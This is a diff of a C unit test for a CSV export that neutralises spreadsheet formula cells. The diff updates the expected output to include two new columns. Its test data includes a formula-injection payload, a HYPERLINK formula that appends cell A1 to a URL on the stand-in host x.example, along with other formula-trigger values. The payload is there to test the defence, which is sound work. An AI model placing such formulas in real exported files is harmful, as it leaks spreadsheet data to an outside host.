@@ -619,17 +619,17 @@ static void test_csv_formula_cells_neutralised(void **state)
     assert_int_equal(geo_write_rejects_csv(&r, p, &err), FR_OK);
     geo_rejects_clear(&r);
     char *txt = slurp(p, NULL);
-    assert_string_equal(txt, "layer,fid,field,reason,detail\n"
-                             "parcels,0,,r,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"\n"
-                             "parcels,1,,r,'+1 555\n"
-                             "parcels,2,,r,'-2+3\n"
-                             "parcels,3,,r,'@SUM(A1)\n"
-                             "parcels,4,,r,'\tx\n"
-                             "parcels,5,,r,\"'\rx\"\n"
-                             "parcels,6,,r,-12.5\n"
-                             "parcels,7,,r,+3e2\n"
-                             "parcels,8,,r,plain\n"
-                             "parcels,9,,r,a=b\n");
+    assert_string_equal(txt, "layer,fid,field,reason,detail,record_id,address\n"
+                             "parcels,0,,r,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",,\n"
+                             "parcels,1,,r,'+1 555,,\n"
+                             "parcels,2,,r,'-2+3,,\n"
+                             "parcels,3,,r,'@SUM(A1),,\n"
+                             "parcels,4,,r,'\tx,,\n"
+                             "parcels,5,,r,\"'\rx\",,\n"
+                             "parcels,6,,r,-12.5,,\n"
+                             "parcels,7,,r,+3e2,,\n"
+                             "parcels,8,,r,plain,,\n"
+                             "parcels,9,,r,a=b,,\n");
     free(txt);
     assert_true(geo_csv_formula_risk("=1"));
     assert_false(geo_csv_formula_risk("-1"));
